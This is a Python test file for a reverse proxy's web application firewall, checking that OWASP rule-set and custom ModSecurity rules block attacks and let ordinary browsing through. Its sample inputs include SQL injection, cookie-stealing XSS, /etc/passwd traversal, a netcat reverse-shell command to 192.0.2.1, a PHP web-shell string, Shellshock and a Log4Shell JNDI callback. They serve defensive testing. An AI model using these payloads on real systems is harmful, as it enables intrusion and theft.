# SPDX-License-Identifier: BSD-2-Clause
"""The firewall (filter waf) refuses attacks and lets pass what is harmless, with Debian's OWASP
core rule set and with rules of one's own. Skipped where libmodsecurity or the rules are missing."""

import glob
import gzip
import json
import os
import shutil
import subprocess
import time

from bascule_flow import (FACTOR, REVERSE, WAIT, Client, Daemon, Failure, Origin, Skip, answer,
                          answer_chunked, ask, check, chunks, equal, get, head, main, once, post,
                          test)
from caching import FRONTS, test_fronts, unique
from daemon import open_folder, program
from h2 import h2c, request
from peers import until

CORE = "/usr/share/modsecurity-crs/rules"

CONF = """
workers = 1;
forward_to_sites = false;
access_logs = ( { name = "all"; to = "@DIR@/access.log"; format = "json"; },
                { name = "waf"; to = "@DIR@/waf.log"; format = "json"; clients = "truncated"; } );
listeners = (
    { name = "web"; mode = "reverse"; listen = "127.0.0.1:0"; policy = "uncached"; },
    { name = "out"; mode = "forward"; listen = "127.0.0.1:0"; allow_destination = [ "127.0.0.0/8" ];
      connect_ports = "1-65535"; filters = ( @CRS@ ); },
    { name = "watched"; mode = "reverse"; listen = "127.0.0.1:0";
      filters = ( { filter = "waf"; crs = true; mode = "detect"; audit = "waf";
                    larger = "pass"; request_body = "1K"; encoded = "pass"; } ); }
);
groups = ( { name = "origin"; max_fails = 0; endpoints = ( { to = "127.0.0.1:@ORIGIN@"; } ); } );
stores = ( { name = "main"; memory = "16M"; } );
policies = ( { name = "uncached";
               rules = ( { when = { path = "/bypassed/*"; }; cache = "bypass"; } ); } );
sites = (
    { name = "all"; default = true; group = "origin"; filters = ( @CRS@ ); },
    { name = "watched"; hosts = [ "watched.test" ]; group = "origin"; },
    { name = "parts"; hosts = [ "parts.test" ]; group = "origin";
      routes = (
          { name = "strict"; path_prefix = "/strict/";
            filters = ( { filter = "waf"; crs = true; paranoia = 4; inbound_threshold = 1;
                          exclude = [ "920000-920999" ]; } ); },
          { name = "sql"; path_prefix = "/sql/";
            filters = ( { filter = "waf"; crs = true;
                          exclude = [ "942000-942999", "949110" ]; } ); },
          { name = "one"; path_prefix = "/one/";
            filters = ( { filter = "waf"; crs = true; exclude = [ "942100" ]; } ); },
          { name = "puts"; path_prefix = "/puts/";
            filters = ( { filter = "waf"; crs = true; methods = [ "GET", "PUT" ]; } ); },
          { name = "own"; path_prefix = "/own/"; cache = { store = "main"; };
            filters = ( { filter = "waf"; rules = [ "@DIR@/own-*.conf" ]; tell_rule = true;
                          response_body = "10K"; request_body = "1K"; @STATUS@ } ); },
          { name = "purged"; path_prefix = "/purged/";
            cache = { store = "main"; purge_from = "127.0.0.1"; };
            filters = ( { filter = "waf"; crs = true; } ); },
          { name = "bypassed"; path_prefix = "/bypassed/";
            cache = { store = "main"; purge_from = "127.0.0.1"; };
            filters = ( { filter = "waf"; crs = true; } ); },
          { name = "first"; path_prefix = "/first/";
            filters = ( { filter = "waf"; crs = true;
                directives = [ "SecRule REQUEST_URI \\"@contains /first/free\\" \\\\",
                    "\\"id:50,phase:1,pass,nolog,ctl:ruleRemoveById=942100\\"" ]; } ); },
          { name = "heads"; path_prefix = "/heads/";
            filters = ( { filter = "waf"; crs = true; request_body = "0"; } ); },
          { name = "trial"; path_prefix = "/trial/";
            filters = ( { filter = "waf"; crs = true; mode = "detect"; request_body = "1K"; } ); },
          { name = "plain"; path_prefix = "/plain/"; }
      ); }
);
"""

CRS = '{ filter = "waf"; crs = true; audit = "waf"; request_body = "64K"; @MORE@ }'

OWN = """
SecRuleEngine DetectionOnly
SecAuditEngine On
SecAuditLog @DIR@/never.log
SecRule ARGS "@pmFromFile words.data" "id:100,phase:2,deny,log,msg:'A word'"
SecRule ARGS:teapot "@streq yes" "id:101,phase:1,deny,status:418,log,msg:'Tea'"
SecRule ARGS:away "@streq yes" "id:102,phase:1,redirect:http://else.test/x,log,msg:'Away'"
SecRule ARGS:drop "@streq yes" "id:103,phase:1,drop,log,msg:'Drop'"
SecRule ARGS:fine "@streq yes" "id:104,phase:1,allow:phase,nolog"
SecRule REQUEST_HEADERS:X-Late "@contains forbidden" "id:106,phase:2,deny,log,msg:'Late'"
SecRule REMOTE_ADDR "!@ipMatch 127.0.0.1" "id:105,phase:1,deny,log,msg:'Who'"
SecRule RESPONSE_BODY "@contains secret-word" "id:110,phase:4,deny,log,msg:'Leak'"
SecRule RESPONSE_HEADERS:X-Leak "@rx ." "id:111,phase:3,deny,status:502,log,msg:'Leak'"
"""

INJECTION = "1%27%20or%201%3D1%20union%20select%20password%20from%20users--%20-"
ATTACKS = {
    "SQL injection": f"?q={INJECTION}",
    "cross-site scripting": "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "path traversal": "?f=../../../../etc/passwd",
    "encoded path traversal": "?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "a command": "?c=%3Bcat%20/etc/passwd%7Cnc%20-e%20/bin/sh%20192.0.2.1%201",
    "PHP code": "?p=%3C%3Fphp%20system(%24_GET%5Bx%5D)%3B%3F%3E",
    "Log4Shell": "?x=%24%7Bjndi%3Aldap%3A//192.0.2.1/a%7D",
}
FIELDS = ["User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
          "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
          "Accept-Language: en-US,en;q=0.5", "Accept-Encoding: gzip, deflate, br"]
FORM = "Content-Type: application/x-www-form-urlencoded"
JSON = "Content-Type: application/json"
MULTIPART = "Content-Type: multipart/form-data; boundary=xyz"

origin = once(Origin)


def part(value, name="a", more=""):
    return (f'--xyz\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{value}\r\n'
            "--xyz--\r\n").encode()


def needs():
    if not glob.glob(CORE + "/*.conf"):
        raise Skip("the core rule set is not installed (Debian: modsecurity-crs)")
    text = ('listeners = ( { name = "a"; mode = "reverse"; listen = "127.0.0.1:0"; filters = '
            '( { filter = "waf"; directives = "SecAction id:1,phase:1,pass,nolog"; } ); } );'
            'sites = ( { name = "s"; default = true; welcome = true; } );')
    done = check_text(text)
    if "built without libmodsecurity" in done.stderr:
        raise Skip("this Bascule was built without libmodsecurity")


def check_text(text):
    """bascule check of a configuration."""
    path = os.path.join(folder(), "check.conf")
    with open(path, "w", encoding="ascii") as file:
        file.write(text)
    return subprocess.run([program(), "check", "-c", path], capture_output=True, text=True,
                          timeout=WAIT, check=False)


class Folder(str):
    def close(self):
        shutil.rmtree(self)


@once
def folder():
    return Folder(open_folder("bascule-waf-"))


def write(path, text):
    """Replaces a file in one step."""
    with open(path + ".new", "w", encoding="ascii") as file:
        file.write(text)
    os.rename(path + ".new", path)


def start(crs=CRS, **values):
    needs()
    own = folder()
    write(f"{own}/own-1.conf", OWN.replace("@DIR@", own))
    write(f"{own}/words.data", "forbidden\nverboten\n")
    conf = CONF.replace("@DIR@/own", f"{own}/own")
    values = {"STATUS": "", "MORE": "", "ORIGIN": origin().port, **values}
    daemon = Daemon(conf.replace("@CRS@", crs), **values)
    daemon.conf_text = conf.replace("@CRS@", crs)
    return daemon


@once
def proxy() -> Daemon:
    return start()


def fetch(front, path, *fields, **more):
    return front.ask(proxy(), origin().port, path, *FIELDS, *fields, **more)


def web(path, *fields, host="parts.test", at="web", daemon=None):
    return ask((daemon or proxy()).address(at), get(path, *FIELDS, *fields, host=host))


def counts(daemon=None):
    found = (daemon or proxy()).metrics()
    start_of = 'bascule_filter_events_total{filter="waf",event="'
    return {name[len(start_of):-2]: value for name, value in found.items()
            if name.startswith(start_of)}


def audit(path, daemon=None):
    """The audit line of a request for path."""
    end = time.monotonic() + WAIT
    while time.monotonic() < end:
        for record in (daemon or proxy()).records("waf.log"):
            if record.get("path") == path:
                return record
        time.sleep(0.02)  # a file does not say when it grows
    raise Failure(f"waf.log has no line for {path}")


# ---- attacks


@test_fronts("attacks in the query are refused, and never reach the origin")
def _(front):
    for name, query in ATTACKS.items():
        path = unique("query")
        equal(fetch(front, path + query).status, 403, name)
        equal(origin().seen(path + query), [], f"{name} at the origin")


@test_fronts("attacks in forms, JSON and multipart content are refused")
def _(front):
    for kind, body in {FORM: f"a=1&q={INJECTION}".encode(),
                       JSON: b'{"a": {"b": ["1\' or 1=1 union select x from users-- -"]}}',
                       MULTIPART: part("<script>alert(1)</script>")}.items():
        path = unique("content")
        equal(fetch(front, path, kind, method="POST", body=body).status, 403, kind)
        equal(origin().seen(path), [], f"{kind} at the origin")


@test_fronts("attacks in cookies and other fields are refused, and so are scanners")
def _(front):
    for field in ("Cookie: a=1; b=<script>alert(1)</script>", "Referer: javascript:alert(1)",
                  "X-Any: () { :; }; echo vulnerable"):
        equal(fetch(front, unique("field"), field).status, 403, field)
    path = unique("scanner")
    response = front.ask(proxy(), origin().port, path, *FIELDS[1:], "User-Agent: sqlmap/1.5")
    equal(response.status, 403, "sqlmap")


@test("a file name that is an attack is refused")
def _():
    with Client(proxy().address("web")) as client:
        client.send(post("/upload", part("x", "f", '; filename="../../x.php"'), *FIELDS,
                         MULTIPART))
        equal(client.read("POST").status, 403, "status")


@test_fronts("what people do while browsing passes unchanged")
def _(front):
    for path in ("/", "/shop/items?id=42&sort=price&page=2", "/search?q=it%27s+a+nice+day",
                 "/caf%C3%A9/men%C3%BC", "/a.js?v=1.2.3", "/mail?to=someone%40example.org"):
        equal(fetch(front, path, "Cookie: sid=3fa98ab7; theme=dark").status, 200, path)
    for kind, body in {FORM: b"name=Ann+Smith&city=K%C3%B6ln&comment=Thanks%2C+it+works%21",
                       JSON: b'{"name": "Ann", "tags": ["a", "b"], "age": 40}',
                       MULTIPART: part("x" * 20000, "f", '; filename="photo.jpg"')}.items():
        path = unique("harmless")
        equal(fetch(front, path, kind, method="POST", body=body).status, 200, kind)
        equal(origin().wait_request(path).body, body, f"{kind} as it arrived")


# ---- refusals and what is told of them


@test("the page names no rule; the access log and the audit log do, without what was sent")
def _():
    response = web("/told" + ATTACKS["SQL injection"], "Accept: text/html", host="site.test")
    equal(response.status, 403, "status")
    check(b"942100" not in response.body and b"949110" not in response.body, "the page says why")
    record = proxy().wait_record("/told" + ATTACKS["SQL injection"])
    equal(record["rule"], "waf:949110", "rule")
    check(record["filters"].startswith("waf: blocked by rule 949110"), record["filters"])
    line = audit("/told")
    equal((line["event"], line["side"], line["rule"], line["status"], line["method"]),
          ("blocked", "request", 949110, 403, "GET"), "audit")
    equal(line["client"], "127.0.0.0", "client, as the log may tell it")
    hit = next(hit for hit in line["hits"] if hit["rule"] == 942100)
    equal((hit["where"], "SQL" in hit["message"]), ("ARGS:q", True), "hit")
    check("union" not in json.dumps(line), "the audit log has what was sent")


@test("who may purge the cache need not be in the rules' methods; others are refused")
def _():
    for path, status in (("/purged/x", 200), ("/first/x", 403), ("/bypassed/x", 403)):
        response = ask(proxy().address("web"), get(path, host="parts.test", method="PURGE"), "PURGE")
        equal(response.status, status, path)
        equal(origin().seen(path), [], "requests at the origin")


@test("a client cannot make the log name another rule")
def _():
    fake = "%22%5D%20%5Bline%20%221%22%5D%20%5Bid%20%2277%22%5D%20%5Brev%20%22%22%5D"
    path = "/fake"
    equal(web(f"{path}?q=%3Cscript%3Ealert(1)%3C/script%3E%20%5Bfile%20%22x{fake}",
              host="site.test").status, 403, "status")
    check(77 not in [hit["rule"] for hit in audit(path)["hits"]], "rule 77 was believed")


@test("detect passes everything on, and tells what would have been refused")
def _():
    before = counts()
    path = "/watched" + ATTACKS["path traversal"]
    equal(web(path, host="watched.test", at="watched").status, 200, "status")
    equal(len(origin().seen(path)), 1, "requests at the origin")
    equal(audit("/watched")["event"], "detected", "event")
    until(lambda: counts()["detected"] == before["detected"] + 1, "the count")
    equal(proxy().wait_record(path).get("rule"), None, "rule of the access log")
    words = proxy().command("explain", "--id", proxy().wait_record(path)["id"], status=None)
    check("would be blocked by rule 949110" in words or words == "", words)


@test("detect passes content that it cannot judge, too")
def _():
    for fields, body in (((FORM,), b"a=" + b"x" * 5000),
                         ((FORM, "Content-Encoding: gzip"), b"\x1f\x8b\x08\x00junk"),
                         ((JSON,), b'{"a": ')):
        path = unique("trial/any")
        with Client(proxy().address("web")) as client:
            client.send(post(path, body, *FIELDS, *fields, host="parts.test"))
            equal(client.read("POST").status, 200, fields)
        equal(origin().wait_request(path).body, body, "content")


@test("statuses and places of rules are kept: 418, a redirection, drop, allow")
def _():
    equal(web("/own/?teapot=yes").status, 418, "teapot")
    response = web("/own/?away=yes")
    equal((response.status, response.get("Location")), (302, "http://else.test/x"), "away")
    equal(web("/own/?drop=yes").status, 403, "drop")
    equal(web("/own/?fine=yes&a=forbidden").status, 403, "allow in phase 1 is for phase 1 on")


@test("the option status is stronger, and tell_rule names the rule")
def _():
    response = web("/own/?a=forbidden", "Accept: text/html")
    equal((response.status, b"waf:100" in response.body), (403, True), "page")
    with start(STATUS="status = 451;") as daemon:
        equal(web("/own/?a=verboten", daemon=daemon).status, 451, "status")
        equal(web("/own/?away=yes", daemon=daemon).status, 302, "a redirection stays one")


@test("the engine is on whatever rule files say, and the library writes no files")
def _():
    equal(web("/own/?a=forbidden").status, 403, "status")
    check(not os.path.exists(folder() + "/never.log"), "an audit log of its own")


# ---- options


@test("filters of a route apply to it alone; exclusions by id and range count")
def _():
    attack = ATTACKS["SQL injection"]
    equal(web("/plain/" + attack).status, 200, "no filter")
    equal(web("/sql/" + attack).status, 200, "excluded by range")
    equal(web("/sql/" + ATTACKS["path traversal"]).status, 200, "the rule that blocks is excluded")
    equal(web("/one/?q=1%27%20or%201%3D1%20--%20-").status, 200, "excluded by id")
    equal(web("/one/" + ATTACKS["path traversal"]).status, 403, "others count")


@test("paranoia and thresholds are each filter's own")
def _():
    equal(web("/strict/?a=a--b--c").status, 403, "paranoia 4")
    equal(web("/one/?a=a--b--c").status, 200, "paranoia 1")


@test("methods may be allowed")
def _():
    for path, status in (("/puts/x", 200), ("/one/x", 403)):
        with Client(proxy().address("web")) as client:
            client.send(post(path, b"a=1", *FIELDS, FORM, host="parts.test", method="PUT"))
            equal(client.read("PUT").status, status, path)


@test("directives come before the core rule set and may switch its rules off")
def _():
    attack = "?q=1%27%20or%201%3D1%20--%20-"
    equal(web("/first/free" + attack).status, 200, "switched off")
    equal(web("/first/other" + attack).status, 403, "elsewhere")


# ---- content


@test("content that comes one byte at a time is judged as a whole and arrives as it was")
def _():
    good = head("POST /slow HTTP/1.1", "Host: site.test", *FIELDS, FORM,
                "Transfer-Encoding: chunked") + chunks(b"a=1&", b"b=two", b"&c=three")
    equal(ask(proxy().address("web"), good, "POST", bytewise=True).status, 200, "harmless")
    equal(origin().wait_request("/slow").body, b"a=1&b=two&c=three", "content")
    bad = head("POST /slow-bad HTTP/1.1", "Host: site.test", *FIELDS, FORM,
               "Transfer-Encoding: chunked") + chunks(b"a=1&q=", INJECTION.encode())
    equal(ask(proxy().address("web"), bad, "POST", bytewise=True).status, 403, "attack")
    equal(origin().seen("/slow-bad"), [], "what reached the origin")


@test("who waits for 100 is told to go on, and then judged")
def _():
    with Client(proxy().address("web")) as client:
        client.send(head("POST /expect HTTP/1.1", "Host: site.test", *FIELDS, FORM,
                         "Content-Length: 5", "Expect: 100-continue"))
        equal(client.line("an interim response"), b"HTTP/1.1 100 Continue", "interim response")
        equal(client.line("its end"), b"", "its end")
        client.send(b"a=bcd")
        equal(client.read("POST").status, 200, "status")
    equal(origin().wait_request("/expect").body, b"a=bcd", "content")


@test_fronts("content over the limit is refused with 413, of known length or not")
def _(front):
    for body in (b"a=" + b"x" * 65534, b"a=" + b"x" * 65535):
        path = unique("long")
        expected = 413 if len(body) > 65536 else 200
        equal(fetch(front, path, FORM, method="POST", body=body).status, expected, len(body))
        equal(len(origin().seen(path)), 1 if expected == 200 else 0, "at the origin")
    if front.protocol == "HTTP/1.1" and front.way is REVERSE:
        whole = head("POST /longer HTTP/1.1", "Host: site.test", *FIELDS, FORM,
                     "Transfer-Encoding: chunked") + chunks(b"a=" + b"x" * 40000, b"y" * 40000)
        equal(ask(proxy().address("web"), whole, "POST").status, 413, "chunked")
        equal(origin().seen("/longer"), [], "whole requests at the origin")


@test("longer or encoded content passes by option, unread, and the head is judged all the same")
def _():
    before, paths = counts(), []
    for fields, body in (((FORM,), b"a=" + b"x" * 5000),
                         ((MULTIPART,), part("y" * 5000)),
                         ((JSON, "Content-Encoding: gzip"), b"\x1f\x8b\x08\x00junk")):
        path = unique("unread")
        with Client(proxy().address("watched")) as client:
            client.send(post(path, body, *FIELDS, *fields, host="watched.test"))
            equal(client.read("POST").status, 200, "status")
        equal(origin().wait_request(path).body, body, "content")
        paths.append(path)
    until(lambda: counts()["unread"] == before["unread"] + 3, "the count")
    with Client(proxy().address("watched")) as client:
        client.send(post("/unread-q" + ATTACKS["path traversal"], b"a=" + b"x" * 5000, *FIELDS,
                         FORM, host="watched.test"))
        client.read("POST")
    equal(audit("/unread-q")["event"], "detected", "event") # and by then there were the others
    equal([r for r in proxy().records("waf.log") if r.get("path") in paths], [], "audit lines")


@test("encoded content is refused with 415 unless an option says otherwise")
def _():
    with Client(proxy().address("web")) as client:
        client.send(post("/encoded", b"\x1f\x8b\x08\x00junk", *FIELDS, FORM,
                         "Content-Encoding: gzip"))
        equal(client.read("POST").status, 415, "status")
    equal(origin().seen("/encoded"), [], "what reached the origin")


@test("a coding is seen behind another line that says there is none")
def _():
    for first in ("Content-Encoding: identity", "Content-Encoding:"):
        path = unique("own/coded")
        with Client(proxy().address("web")) as client:
            client.send(post(path, gzip.compress(b"a=forbidden"), *FIELDS, FORM, first,
                             "Content-Encoding: gzip", host="parts.test"))
            equal(client.read("POST").status, 415, first)
        equal(origin().seen(path), [], "what reached the origin")


@test("fields behind the content are judged like those before it")
def _():
    for value, status in (("harmless", 200), ("forbidden", 403)):
        path = unique("own/trailer")
        whole = head(f"POST {path} HTTP/1.1", "Host: parts.test", *FIELDS, FORM,
                     "Transfer-Encoding: chunked") + \
            chunks(b"a=1", trailers=[f"X-Late: {value}"])
        equal(ask(proxy().address("web"), whole, "POST").status, status, value)
        equal(len(origin().seen(path)), 1 if status == 200 else 0, "requests at the origin")


@test("without content that is judged, heads are all the same")
def _():
    for name, query in ATTACKS.items():
        equal(web("/heads/" + query).status, 403, name)
    equal(web("/heads/", "Cookie: a=<script>alert(1)</script>").status, 403, "a cookie")
    for kind, body in ((FORM, f"q={INJECTION}".encode()), (JSON, b'{"a": '), (MULTIPART, b"x")):
        path = unique("heads/content")
        with Client(proxy().address("web")) as client:
            client.send(post(path, body, *FIELDS, kind, host="parts.test"))
            equal(client.read("POST").status, 200, kind)
        equal(origin().wait_request(path).body, body, "content")
    arguments = "&".join(f"a{i}=1" for i in range(1500))
    equal(web("/heads/?" + arguments + "&q=" + INJECTION).status, 400, "very many arguments")


@test("content that is not what it says it is, or says two things, is refused")
def _():
    for kind, body in ((JSON, b'{"a": '), (JSON, b"[" * 300 + b"]" * 300),
                       (MULTIPART, b"--xyz\r\nno field here\r\n"),
                       (FORM, b"&".join(b"a%d=1" % i for i in range(1500)))):
        with Client(proxy().address("web")) as client:
            client.send(post("/strange", body, *FIELDS, kind))
            equal(client.read("POST").status, 400, (kind, body[:20]))


FEW = '{ filter = "waf"; crs = true; audit = "waf"; max_arguments = 20; max_cookies = 10; @MORE@ }'


def refused_by(daemon, path, *fields, body=None):
    """The rule that refuses a request with 400; None: it is answered."""
    whole = get(path, *FIELDS, *fields, host="site.test") if body is None else \
        post(path, body, *FIELDS, *fields, host="site.test")
    with Client(daemon.address("web")) as client:
        client.send(whole)
        status = client.read("GET" if body is None else "POST").status
    rule = daemon.wait_record(path).get("rule")
    equal(status, 200 if rule is None else 400, (path, rule))
    return rule


@test("arguments, of query and content together, and cookies are counted: one too many is refused")
def _():
    def listed(count, start=0):
        return "&".join(f"a{i}=1" for i in range(start, start + count))

    with start(FEW) as daemon:
        for over, rule in ((0, None), (1, "waf:19000005")):
            equal(refused_by(daemon, f"/q{over}?{listed(20 + over)}"), rule, "query")
            equal(refused_by(daemon, f"/b{over}?{listed(12)}", FORM,
                             body=listed(8 + over, 12).encode()), rule, "query and form")
            for count in (20 + over, 20 + 500 * over):  # the last is not read to its end
                value = json.dumps({"a": [1] * count}).encode()
                equal(refused_by(daemon, unique("json"), JSON, body=value), rule, f"JSON, {count}")
            parts = "".join(f'--xyz\r\nContent-Disposition: form-data; name="a{i}"\r\n\r\nx\r\n'
                            for i in range(20 + over)) + "--xyz--\r\n"
            equal(refused_by(daemon, f"/m{over}", MULTIPART, body=parts.encode()), rule, "parts")
        for count, rule in ((10, None), (11, "waf:19000006")):
            cookies = "; ".join(f"c{i}=1" for i in range(count))
            equal(refused_by(daemon, f"/c{count}", f"Cookie: {cookies}"), rule, "cookies")
        equal(counts(daemon)["blocked"], 6, "the count")
    with start(FEW, MORE='mode = "detect";') as daemon:
        equal(web(f"/d?{listed(21)}", host="site.test", daemon=daemon).status, 200, "detect")
        equal([audit("/d", daemon)[name] for name in ("event", "rule")], ["detected", 19000005],
              "audit")


@test("a client that leaves, before its content is whole or while it is judged, leaves nothing")
def _():
    for cut in (head("POST /gone HTTP/1.1", "Host: site.test", *FIELDS, FORM,
                     "Content-Length: 100") + b"a=1",
                post("/gone-later", b"a=" + b"%3Cx%27" * 5000, *FIELDS, FORM)):
        client = Client(proxy().address("web"))
        client.send(cut)
        client.reset()
    with h2c(proxy().address("web")).greet() as stream:
        for _ in range(10):
            number = stream.open(request("/reset?q=" + INJECTION), end=True)
            stream.reset_stream(number)
    equal(web("/after", host="site.test").status, 200, "the next one")
    equal(origin().seen("/gone"), [], "requests at the origin")


@test("many at once are all judged, on one connection, too")
def _():
    with h2c(proxy().address("web")).greet() as stream:
        numbers = [stream.open(request(f"/many-{i}" + (ATTACKS["a command"] if i % 2 else ""),
                                       *[(n.lower(), v) for n, _, v in
                                         (line.partition(": ") for line in FIELDS)]), end=True)
                   for i in range(40)]
        for i, number in enumerate(numbers):
            equal(stream.answer(number).status, 403 if i % 2 else 200, i)


@test("what waits too long for a thread is refused with 503, and in detect it passes")
def _():
    slow = ('{ filter = "waf"; @MORE@ max_wait = "1ms"; directives = '
            '"SecRule ARGS:a \\"@rx (?:(x+x+)+y|z)\\" \\"id:1,phase:1,deny\\""; }')
    for mode, late in (("block", 503), ("detect", 200)):
        with start(slow, MORE=f'mode = "{mode}";') as daemon:
            with h2c(daemon.address("web")).greet() as stream:
                numbers = [stream.open(request("/slow?a=" + "x" * 21), end=True)
                           for i in range(50)]
                statuses = {stream.answer(number).status for number in numbers}
            check(late in statuses <= {200, late}, f"statuses, {mode}: {statuses}")
            check(counts(daemon)["busy"] > 0, "the count")
            until(lambda: web("/slow?a=y", daemon=daemon).status == 200, "a quick one is judged")


# ---- responses


@test("responses are judged by option: content, head, in chunks; what is stored was judged")
def _():
    origin().on("/own/leak", answer(b"<p>the secret-word</p>", "Content-Type: text/html"))
    origin().on("/own/leak-2", answer_chunked(b"the secr", b"et-word",
                                              fields=["Content-Type: text/plain; charset=x"]))
    origin().on("/own/head", answer(b"x", "X-Leak: 1", "Content-Type: image/png"))
    origin().on("/own/image", answer(b"secret-word", "Content-Type: image/png"))
    origin().on("/own/long", answer(b"secret-word" + b"x" * 20000, "Content-Type: text/plain"))
    origin().on("/own/fine", answer(b"fine" * 1000, "Content-Type: text/html",
                                    "Cache-Control: max-age=60"))
    equal([web(f"/own/{name}").status for name in ("leak", "leak-2", "head", "image", "long")],
          [403, 403, 502, 200, 200], "statuses")
    for _ in range(2):
        equal(web("/own/fine").body, b"fine" * 1000, "content")
    equal(len(origin().seen("/own/fine")), 1, "requests at the origin")
    seen = origin().wait_request("/own/fine")
    check(not seen.has("Accept-Encoding"), "the origin was asked for encoded content")
    equal(len(web("/own/long").body), 20011, "length of what is too long to be judged")


@test("answers to HEAD, and such without content, pass as they are")
def _():
    origin().on("/own/none", answer(b"", status="204 No Content"))
    equal(web("/own/none").status, 204, "204")
    response = ask(proxy().address("web"), get("/own/h", *FIELDS, host="parts.test",
                                               method="HEAD"), "HEAD")
    equal(response.status, 200, "HEAD")


# ---- the library


FREE = """
workers = 1;
listeners = ( { name = "web"; mode = "reverse"; listen = "127.0.0.1:0"; } );
sites = ( { name = "www"; default = true; welcome = true; filters = ( @WAF@ ); } );
"""
ONE = '{ filter = "waf"; directives = "SecRule ARGS:a \\"@streq b\\" \\"id:1,phase:1,deny\\""; }'


def loads(pid):
    """Whether the process has the library."""
    with open(f"/proc/{pid}/maps", encoding="utf-8") as file:
        return "libmodsecurity" in file.read()


def reload_refused(daemon, conf, **values):
    """What a reload that must fail says."""
    daemon.write_conf(conf, **values)
    done = subprocess.run([program(), "reload", "--control", daemon.path("control")],
                          capture_output=True, text=True, timeout=WAIT, check=False)
    equal(done.returncode, 1, "exit status of the reload")
    return done.stderr


@test("the library is loaded by a worker process that has a firewall, also by a reload")
def _():
    needs()
    with Daemon(FREE, WAF="") as daemon:
        worker = daemon.children()[0]
        equal((loads(daemon.pid), loads(worker)), (False, False), "loaded without a firewall")
        for _ in range(2):
            daemon.reload(FREE, WAF=ONE)
            equal(web("/?a=b", daemon=daemon).status, 403, "with a firewall")
            equal((loads(daemon.pid), loads(worker)), (False, True), "loaded with one")
            daemon.reload(FREE, WAF="")
            equal(web("/?a=b", daemon=daemon).status, 200, "without one again")


def check_with(run, waf, **env):
    """run check of FREE with waf, in an environment: its exit status and its words."""
    write(f"{folder()}/free.conf", FREE.replace("@WAF@", waf))
    done = subprocess.run([run, "check", "-c", f"{folder()}/free.conf"], env={**os.environ, **env},
                          capture_output=True, text=True, timeout=WAIT, check=False)
    return done.returncode, done.stderr


def says(words, *parts):
    for part in parts:
        check(part in words, f"no {part!r} in {words!r}")


@test("a library that is not there is missed by check, and by nobody who has no firewall")
def _():
    needs()
    name, absent = b"libmodsecurity.so.3\0", b"libmodsecurit0.so.3\0"
    copy = f"{folder()}/bascule-without"
    with open(program(), "rb") as file:
        code = file.read()
    equal(code.count(name), 1, "times that the program names the library")
    with open(copy, "wb") as file:
        file.write(code.replace(name, absent))
    os.chmod(copy, 0o755)
    status, words = check_with(copy, ONE)
    equal(status, 1, "exit status")
    says(words, 'free.conf:4: filter "waf": the firewall needs libmodsecurity',
         "libmodsecurit0.so.3: cannot open", "(Debian: libmodsecurity3)")
    equal(check_with(copy, "")[0], 0, "exit status without a firewall")


@test("a library that lacks a function is refused by check")
def _():
    needs()
    with open("/proc/self/maps", encoding="utf-8") as file:
        other = next(line.split()[-1] for line in file if "/libc.so" in line)
    libraries = f"{folder()}/libraries"
    os.mkdir(libraries)
    shutil.copy(other, f"{libraries}/libmodsecurity.so.3")
    status, words = check_with(program(), ONE, LD_LIBRARY_PATH=libraries)
    equal(status, 1, "exit status")
    says(words, 'free.conf:4: filter "waf": libmodsecurity.so.3 has no msc_', "libmodsecurity3)")


@test("a reload that cannot load the library changes nothing; the next one tries again")
def _():
    needs()
    libraries = f"{folder()}/unfinished"
    os.mkdir(libraries)
    with Daemon(FREE, env={"LD_LIBRARY_PATH": libraries}, WAF="") as daemon:
        write(f"{libraries}/libmodsecurity.so.3", "")
        says(reload_refused(daemon, FREE, WAF=ONE), 'bascule.conf:5: filter "waf": ',
             "file too short", "(Debian: libmodsecurity3)")
        equal(web("/?a=b", daemon=daemon).status, 200, "the old configuration goes on")
        os.unlink(f"{libraries}/libmodsecurity.so.3")
        daemon.reload(FREE, WAF=ONE)
        equal(web("/?a=b", daemon=daemon).status, 403, "the next one")


# ---- rule files


@test("rules that cannot be read are refused by check, with file and line")
def _():
    needs()
    own = folder()
    for text, words in (("SecRuleEngine On\n\nBogus On\n", "bad.conf:3: "),
                        ('SecRule ARGS "@rx a" "deny"\n', "bad.conf:1: Rules must have an ID"),
                        ('SecRule ARGS "@pmFromFile none.data" "id:1,deny"\n', "bad.conf:1: "),
                        ('SecRule ARGS "a" "id:1,deny"\n' * 2, "id: 1 is duplicated")):
        write(f"{own}/bad.conf", text)
        done = check_text(f"""
            listeners = ( {{ name = "a"; mode = "reverse"; listen = "127.0.0.1:0"; }} );
            sites = ( {{ name = "s"; default = true; welcome = true;
                         filters = ( {{ filter = "waf"; rules = "{own}/bad.conf"; }} ); }} );""")
        equal(done.returncode != 0, True, f"exit status with {text!r}")
        check(words in done.stderr and "check.conf:4: " in done.stderr, done.stderr)


@test("a reload reads files that have changed, and not those that have not")
def _():
    with start() as daemon:
        own = folder()
        equal(web("/own/?a=novel", daemon=daemon).status, 200, "before")
        write(f"{own}/words.data", "novel\n")
        daemon.reload(daemon.conf_text)
        equal(web("/own/?a=novel", daemon=daemon).status, 403, "after")
        write(f"{own}/own-2.conf", "Bogus On\n")
        words = reload_refused(daemon, daemon.conf_text)
        os.unlink(f"{own}/own-2.conf")
        check("own-2.conf:1: " in words, words)
        equal(web("/own/?a=novel", daemon=daemon).status, 403, "the old rules go on")
        def read(name):
            return len([line for line in daemon.log_lines if name in line])

        # Of the files that changed it is told later than of the core rule set.
        until(lambda: read("own-1.conf ...") == 2, "the line on what was read again")
        equal(read("REQUEST-901"), 1, "times that the core rule set was read")


def is_sanitized(daemon):
    """Whether memory says little: freed memory is kept apart."""
    with open(f"/proc/{daemon.children()[0]}/maps", encoding="utf-8") as file:
        text = file.read()
    return "libasan" in text or "libtsan" in text


def resident_kb(daemon):
    pid = daemon.children()[0]
    with open(f"/proc/{pid}/status", encoding="ascii") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("VmRSS"))


@test("reloads with changed rules lose nothing that is under way, and memory stays")
def _():
    with start() as daemon, Client(daemon.address("web")) as client:
        count = 20 if FACTOR == 1 else 10
        for i in range(count):
            write(f"{folder()}/words.data", f"forbidden\nword-{i}\n")
            client.send(head("POST /under-way HTTP/1.1", "Host: site.test", *FIELDS, FORM,
